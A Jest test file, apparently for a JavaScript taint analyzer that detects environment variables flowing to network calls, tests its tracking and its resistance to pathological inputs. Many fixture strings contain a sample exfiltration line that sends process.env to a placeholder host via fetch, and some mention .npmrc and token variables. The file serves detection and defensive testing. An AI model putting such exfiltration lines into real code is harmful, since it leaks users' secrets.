import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { StepsSpent, Steps } from '../../../src/javascript/walk.js';
import { labels } from '../../../src/packages/profile/taint-rules.js';
import { followed, ways, type Sources } from './ways.js';

const n = 10_000;
const times = (count: number, of: (at: number) => string, between = ''): string => Array.from({ length: count }, (_, at) => of(at)).join(between);
const send = 'fetch("https://c.example.invalid", { body: d })';

/** Followed to its end, or the steps are spent and it is said; nothing else is thrown. */
function bounded(text: Sources, steps = 60_000_000): 'followed' | 'missed' | 'said' {
  try {
    const { flows, problems } = followed(text, new Steps(steps));
    if (problems.length > 0) return 'said';
    return flows.some(({ label, sink }) => labels[label]!.startsWith('environment') && sink.sink === 'network') ? 'followed' : 'missed';
  } catch (error) {
    if (error instanceof StepsSpent) return 'said';
    throw error;
  }
}

describe('code that is made to be followed without end', () => {
  /** `lost`: where nothing but that it ends is asked for. */
  test.each<readonly [name: string, text: string, lost?: true]>([
    ['100,000 brackets', `const d = ${'['.repeat(100_000)}process.env${']'.repeat(100_000)}; ${send}`],
    ['100,000 brackets around nothing', `${'['.repeat(100_000)}${']'.repeat(100_000)}; const d = process.env; ${send}`],
    ['10,000 objects in objects', `const d = ${'{ a: '.repeat(n)}process.env${' }'.repeat(n)}; ${send}`],
    ['10,000 functions in functions', `const d = process.env; ${'(function () { '.repeat(n)}${send}${' })()'.repeat(n)}`],
    ['5,000 arrows in arrows', `const f = ${'() => '.repeat(5_000)}process.env; const d = f${'()'.repeat(5_000)}; ${send}`],
    ['10,000 nested calls', `const d = ${'f('.repeat(n)}process.env${')'.repeat(n)}; ${send}`],
    ['1,000 calls in a row', `const d = f(process.env)${'.g()'.repeat(1_000)}; ${send}`],
    ['100,000 terms', `const d = ${times(100_000, (at) => `"t${at % 10}/"`, ' + ')} + process.env; ${send}`],
    ['10,000 templates', `const d = ${'`a${'.repeat(n)}process.env${'}`'.repeat(n)}; ${send}`],
    ['10,000 conditions', `const d = ${'a ? b : '.repeat(n)}process.env; ${send}`],
    ['50,000 functions', `${times(50_000, (at) => `function f${at}(a) { return a }`)} const d = f49999(process.env); ${send}`],
    ['10,000 functions that hand on', `${times(10_000, (at) => `function f${at}(a) { return f${at + 1}(a) }`)} function f10000(a) { return a } const d = f0(process.env); ${send}`],
    ['10,000 functions in one literal', `const t = { ${times(10_000, (at) => `f${at}(a) { return a }`, ', ')} }; const d = t[k](process.env); t[l](); ${send}`],
    ['every function calls every other', `${times(120, (at) => `function f${at}(a) { ${times(120, (other) => `f${other}(a);`)} return a }`)} const d = f7(process.env); ${send}`],
    ['one function, 10,000 calls with other data', `function f(a) { return a } ${times(n, (at) => `f("https://h${at}.example.invalid");`)} const d = f(process.env); ${send}`, true],
    ['10,000 variables in a row', `const a0 = process.env; ${times(n, (at) => `const a${at + 1} = a${at};`)} const d = a${n}; ${send}`],
    ['10,000 variables in a ring', `${times(n, (at) => `var a${at} = a${(at + 1) % n};`)} a5 = process.env; const d = a0; ${send}`],
    ['an object of 50,000 fields', `const o = { ${times(50_000, (at) => `k${at}: ${at}`, ', ')}, e: process.env }; const d = o.e; ${send}`],
    ['an object of 10,000 objects', `const o = {}; ${times(n, (at) => `o.k${at} = { p: o, e: process.env };`)} const d = o.k7; ${send}`],
    ['a list that holds itself', `const l = [process.env]; l.push(l); l[0] = l; l[1] = [...l, l]; const d = l[0][1][0]; ${send}`, true],
    ['an object that holds itself', `const o = { e: process.env }; o.o = o; o.p = { ...o, o }; Object.assign(o, o); const d = o.o.p.o.e; ${send}`, true],
    ['a class that extends itself', `class A extends A { constructor() { super(); this.e = process.env; this.a = new A() } } const d = new A().a.e; ${send}`],
    ['classes in a ring', `class A extends B { } class B extends A { } A.prototype.e = process.env; const d = new B().e; ${send}`, true],
    ['a function that returns itself', `function f() { return f } const d = f()()()(process.env); ${send}`],
    ['recursion through a callback', `function f(cb) { cb(f); return cb(cb) } const d = f((a) => a(f) || process.env); ${send}`],
    ['files that are open and opened again', `const fs = require("fs"); let p = "/tmp/x"; ${times(2_000, () => 'p = fs.createWriteStream(p); p.write(p);')} const d = process.env; ${send}`],
    ['10,000 sinks', `const d = process.env; ${times(n, () => `${send};`)}`],
    ['10,000 sources', `let d; ${times(n, () => 'd = process.env;')} ${send}`],
    ['10,000 hosts', `let d = process.env; let u; ${times(n, (at) => `u = "https://h${at}.example.invalid";`)} fetch(u, { body: d })`, true],
    ['300 classes of data at one place, and many texts', `let d = process.env; ${times(300, (at) => `d += "https://h${at}.example.invalid/" + process.env.T${at}_TOKEN;`)} fetch(d)`, true],
    ['a pattern of 2,000 levels', `const ${'{ a: '.repeat(2_000)}d${' }'.repeat(2_000)} = process.env; ${send}`],
    ['10,000 parameters', `function f(${times(n, (at) => `a${at}`, ', ')}, d) { ${send} } f(${times(n, String, ', ')}, process.env)`],
    ['10,000 arguments', `function f() { const d = arguments[${n}]; ${send} } f(${times(n, String, ', ')}, process.env)`],
    ['a long text', `const d = process.env + "${'https://c.example.invalid/ .npmrc '.repeat(n)}"; ${send}`],
    ['1,000 pipes', `const d = a${times(1_000, () => '.pipe(b)')}; d.write(process.env); ${send}`],
    ['2,000 callbacks', `f(${times(2_000, (at) => `(a${at}) => a${at}`, ', ')}); const d = process.env; ${send}`],
  ])('%s', (...[, text, lost]) => {
    expect(lost ? ['missed', 'followed', 'said'] : ['followed', 'said']).toContain(bounded(text));
  });
});

describe('names that a prototype has', () => {
  const names = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'valueOf', '__defineGetter__', 'length', 'name', 'caller', 'arguments'];
  test.each(names.flatMap((name): readonly (readonly [string, Sources])[] => [
    [`a field ${name}`, `const o = { a: 1 }; o.${name} = process.env; const d = o.${name}; ${send}`],
    [`a field ["${name}"]`, `const o = { ["${name}"]: process.env }; const d = o["${name}"]; ${send}`],
    [`a pattern with ${name}`, `const { ${name}: d } = { ["${name}"]: process.env }; ${send}`],
    ...(/^(?:__proto__|constructor|prototype)$/.test(name) ? [] : [[`a method ${name}`, `const o = { a: 1 }; o.${name} = (d) => { ${send} }; o.${name}(process.env)`] as const]),
    [`an export ${name}`, { 'a.js': `const b = require("./b"); const d = b.${name}; ${send}`, 'b.js': `exports.${name} = process.env` }],
    [`an exported function ${name}`, { 'a.js': `require("./b").${name}(process.env)`, 'b.js': `exports.${name} = (d) => { ${send} }` }],
    [`a file ${name}`, { 'a.js': `require("./${name}")(process.env)`, [`${name}.js`]: `module.exports = (d) => { ${send} }` }],
  ]))('%s', (_, text) => {
    expect(ways(text)).toContain('environment>network');
    expect(({} as Record<string, unknown>)['env']).toBeUndefined();
  });

  test.each(names.filter((name) => name !== 'arguments'))('a variable %s, and one that nobody declared', (name) => {
    expect(ways(`var ${name} = process.env; var d = ${name}; ${send}`)).toContain('environment>network');
    expect(ways(`q_${name} = process.env; var d = q_${name}; ${send}`)).toContain('environment>network');
  });
});

describe('packages that are made to be followed without end', () => {
  const many = (count: number, of: (at: number) => string): Sources => Object.fromEntries(Array.from({ length: count }, (_, at) => [`f${at}.js`, of(at)]));
  test.each<readonly [string, Sources]>([
    ['10,000 imports of one file', { 'a.js': `${times(10_000, (at) => `const b${at} = require("./b");`)} b9999.send(process.env)`, 'b.js': `exports.send = (d) => { ${send} }` }],
    ['10,000 imports of nothing', { 'a.js': `${times(10_000, (at) => `import i${at} from "./none${at}.js";`)} const d = process.env; ${send}` }],
    ['10,000 names from one file', { 'a.js': `import { ${times(10_000, (at) => `n${at}`, ', ')} } from "./b.js"; n9999(process.env)`, 'b.js': times(10_000, (at) => `export const n${at} = (d) => { ${at === 9_999 ? send : ''} };`) }],
    ['10,000 re-exports', { 'a.js': 'import { send } from "./b.js"; send(process.env)', 'b.js': `${times(10_000, (at) => `export * from "./none${at}.js";`)} export const send = (d) => { ${send} }` }],
    ['400 files in a row', many(400, (at) => (at === 399 ? `module.exports = (d) => { ${send} }` : `const next = require("./f${at + 1}"); ${at === 0 ? 'next(process.env)' : 'module.exports = (d) => next(d)'}`))],
    ['400 files in a ring', many(400, (at) => `const next = require("./f${(at + 1) % 400}"); module.exports = (d) => { next(d); ${at === 200 ? send : ''} }; ${at === 0 ? 'next(process.env)' : ''}`)],
    ['files that hand on all of one another', many(40, (at) => `${times(40, (other) => `export * from "./f${other}.js";`)} export const s${at} = (d) => { ${send} }; ${at === 0 ? 'import { s7 as q } from "./f39.js"; q(process.env);' : ''}`)],
    ['a file that imports itself', { 'a.js': `const self = require("./a"); exports.send = (d) => { ${send} }; exports.self = self; self.self.send(process.env); exports.send(process.env)` }],
    ['one global in 1,000 files', many(1_000, (at) => `shared.p${at} = shared; ${at === 0 ? 'shared.e = process.env' : ''}; ${at === 999 ? `const d = shared.e; ${send}` : ''}`)],
  ])('%s', (_, files) => {
    expect(bounded(files)).not.toBe('missed');
  });
});

describe('a budget', () => {
  const text = `${times(500, (at) => `function f${at}(a) { return f${(at * 7) % 500}(a) }`)} const d = f3(process.env); ${send}`;
  test.each([1, 100, 2_000, 10_000])('of %s steps is held, and said', (steps) => {
    expect(bounded(text, steps)).toBe('said');
  });
  test('gives the same answer each time', () => {
    const first = JSON.stringify(followed(text).flows);
    expect(JSON.stringify(followed(text).flows)).toBe(first);
  });
});

test('any pieces in any order', () => {
  const piece = fc.constantFrom('process.env', 'fetch(', 'eval(', 'require("./b")', 'd', 'o', '=', '(', ')', '[', ']', '{', '}', '=>', '.', ',', ';', '...', 'this', 'new', 'class A', 'extends', 'function f', 'return', 'await', 'yield', 'async', '?.', '`${', '}`', 'exports', 'module.exports', '__proto__', 'import', 'export', 'arguments', '.call(', '.bind(', '.then(', '"https://c.example.invalid"');
  fc.assert(fc.property(fc.array(piece, { maxLength: 40 }), fc.array(piece, { maxLength: 20 }), (a, b) => {
    expect(['followed', 'missed', 'said']).toContain(bounded({ 'a.js': a.join(' '), 'b.js': b.join(' ') }));
  }), { seed: 20_261_122, numRuns: 150 });
});
